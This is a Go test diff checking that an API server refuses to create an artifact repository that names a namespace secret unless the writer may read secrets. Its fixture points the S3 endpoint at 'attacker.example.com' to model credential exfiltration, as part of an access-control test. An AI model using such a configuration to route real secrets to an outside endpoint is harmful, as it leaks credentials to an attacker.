@@ -173,3 +173,31 @@ func TestArtifactRepositoryAdmission(t *testing.T) {
 	}
 	wantStatus(t, call(t, http.MethodPost, url+"/v1/apply", wf("b")), http.StatusOK)
 }
+
+// Naming a secret in an artifactrepository is reading it: the server sends the access
+// key in the clear to the endpoint the writer chose (and either item may be any of the
+// namespace's secrets). A writer who may not read the namespace's secrets is refused.
+func TestArtifactRepositoryNeedsSecretRead(t *testing.T) {
+	url := newTestServer(t, Config{})
+	secret := `{"apiVersion":"v4","kind":"secret","metadata":{"name":"db","namespace":"ns"},"datas":{"password":{"content":"aHVudGVyMg=="}}}`
+	wantStatus(t, call(t, http.MethodPost, url+"/v1/apply", secret), http.StatusOK)
+	repo := `{"apiVersion":"v4","kind":"artifactrepository","metadata":{"name":"leak","namespace":"ns"},"spec":{"s3":{` +
+		`"endpoint":"attacker.example.com","bucket":"arts","accessKeySecret":{"name":"db","key":"password"},"secretKeySecret":{"name":"db","key":"password"}}}}`
+	repoWriter := tokenWithPolicy(t, url, `kind: acl-policy
+metadata: {name: repos}
+rules:
+  - {namespaces: [ns], kinds: [artifactrepository], verbs: [read, write]}
+`, "repos", "")
+	r := callAs(t, "", http.MethodPost, url+"/v1/apply", repo, repoWriter)
+	wantArtMsg(t, r, http.StatusForbidden, "may not read secret")
+	if f := decodeError(t, r).Details; len(f) == 0 || f[0].Field != "spec.s3.accessKeySecret.name" {
+		t.Fatalf("details %+v, want the secret's field", f)
+	}
+	wantStatus(t, call(t, http.MethodGet, url+"/v1/namespaces/ns/artifactrepositories/leak", ""), http.StatusNotFound)
+	both := tokenWithPolicy(t, url, `kind: acl-policy
+metadata: {name: repos-and-secrets}
+rules:
+  - {namespaces: [ns], kinds: [artifactrepository, secret], verbs: [read, write]}
+`, "repos-and-secrets", "")
+	wantStatus(t, callAs(t, "", http.MethodPost, url+"/v1/apply", repo, both), http.StatusOK)
+}
